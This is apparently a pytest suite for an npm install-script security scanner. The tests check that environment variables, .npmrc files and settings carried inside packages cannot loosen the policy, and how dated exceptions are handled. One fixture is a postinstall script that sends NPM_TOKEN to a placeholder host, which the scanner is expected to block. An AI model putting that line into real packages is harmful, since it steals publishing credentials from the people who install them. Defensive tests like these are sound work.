"""Nothing but the project's own safe-install.toml makes the policy looser: no variable, no .npmrc, no package."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.world import World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

LOOSE = 'require-sandbox = false\nauto-approve = true\nblock-at = "ERROR"\n'
SETTINGS = {
    "block_at": "NEVER",
    "require_sandbox": "false",
    "auto_approve": "true",
    "auto_skip": "true",
    "policy": "/tmp/x",
}
WRITES: dict[str, Any] = {"scripts": {"postinstall": "node install.js"}}
INSTALL = {"install.js": "require('fs').writeFileSync('made.txt', 'made');\n"}


def test_no_variable_of_the_environment_makes_it_looser(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    world.lock(world.registry.publish("builds", "1.0.0", INSTALL, **WRITES))
    for key, value in SETTINGS.items():
        for prefix in ("SAFE_INSTALL_", "npm_config_safe_install_", "npm_config_"):
            monkeypatch.setenv(prefix + key.upper(), value)
            monkeypatch.setenv(prefix + key, value)
    assert world.run("scan", "--json").verdicts == {"builds postinstall": "review"}
    assert world.run("ci", "--unconfined").code == 2


def test_no_npmrc_makes_it_looser(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.0.0", INSTALL, **WRITES))
    lines = [f"{key.replace('_', '-')}={value}" for key, value in SETTINGS.items()]
    world.write(".npmrc", "\n".join([*lines, *(f"safe-install-{line}" for line in lines)]))
    said = world.run("scan", "--json")
    assert said.verdicts == {"builds postinstall": "review"}
    assert world.run("ci", "--unconfined").code == 2


def test_no_package_makes_it_looser_by_what_it_brings(world: World) -> None:
    told = {
        "safe-install": {"auto-approve": True},
        "safeInstall": {"autoApprove": True},
        "allowScripts": {"builds": True},
    }
    files = {**INSTALL, "safe-install.toml": LOOSE, ".npmrc": "auto-approve=true\n"}
    world.lock(world.registry.publish("builds", "1.0.0", files, **(WRITES | told)))
    assert world.run("scan", "--json").verdicts == {"builds postinstall": "review"}
    world.run("ci")
    assert world.has("node_modules/builds/safe-install.toml")
    assert not world.has("node_modules/builds/made.txt")
    assert world.run("scan", "--json").verdicts == {"builds postinstall": "review"}


def test_the_policy_and_the_approvals_of_a_folder_in_node_modules_are_nobodys(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.0.0", INSTALL, **WRITES))
    world.approve("builds")
    for name in ("package.json", "package-lock.json", "safe-install.approvals.json"):
        world.write(f"node_modules/evil/{name}", world.read(name))
    world.write("node_modules/evil/safe-install.toml", "auto-approve = true\n")
    said = world.run("scan", "node_modules/evil/package-lock.json", "--json")
    assert [verdict["reasons"] for verdict in said.report["verdicts"]] == [["never-approved"]]


def test_from_a_registry_that_the_policy_does_not_name_nothing_is_fetched(world: World) -> None:
    world.lock(world.registry.publish("plain", "1.0.0"))
    world.write("safe-install.toml", 'allowed-registries = ["https://npm.example.test/"]\n')
    said = world.run("ci", "--json")
    assert said.code == 11
    assert [finding["signature"] for finding in said.report["findings"]] == ["policy/registry"]
    assert world.registry.requests == []
    world.write("safe-install.toml", f'allowed-registries = ["{world.registry.url}"]\n')
    assert world.run("ci").code == 0


def test_what_is_read_wholly_and_reaches_for_nothing_runs_unasked_only_when_the_project_says_so(world: World) -> None:
    world.lock(world.registry.publish("builds", "1.0.0", INSTALL, **WRITES))
    world.write("safe-install.toml", "auto-approve = true\n")
    said = world.run("scan", "--json")
    assert [verdict["reasons"] for verdict in said.report["verdicts"]] == [["auto-approved"]]
    world.lock(world.registry.publish("builds", "1.0.1", {"install.js": "require(process.env.X)"}, **WRITES))
    assert world.run("scan", "--json").verdicts == {"builds postinstall": "review"}


def test_an_exception_holds_for_one_signature_in_one_script_and_is_told(world: World) -> None:
    steals = {"install.js": "require('https').request('https://x.example.test/?' + process.env.NPM_TOKEN).end();\n"}
    world.lock(world.registry.publish("builds", "1.0.0", steals, **WRITES))
    (verdict,) = world.run("scan", "--json").report["verdicts"]
    blocking = sorted({found["signature"] for found in verdict["findings"] if found["severity"] == "ERROR"})
    assert verdict["decision"] == "block"
    tables = [
        f'[[exceptions]]\nsignature = {json.dumps(name)}\nfingerprint = "{verdict["fingerprint"]}"\n'
        'reason = "our own mirror"\nauthor = "ana"\nuntil = 2999-01-01\n'
        for name in blocking
    ]
    world.write("safe-install.toml", "\n".join(tables))
    said = world.run("scan", "--json")
    (excepted,) = said.report["verdicts"]
    assert (excepted["decision"], excepted["reasons"][-1]) == ("review", "exception")
    assert [one["signature"] for one in excepted["exceptions"]] == blocking
    assert 'says ana in safe-install.toml ("our own mirror")' in " ".join(world.run("scan").out.split())
    world.write("safe-install.toml", "\n".join(tables).replace("2999-01-01", "2026-01-01"))
    over = world.run("scan")
    assert over.code == 11
    assert "counted less until 2026-01-01, which is over" in " ".join(over.out.split())
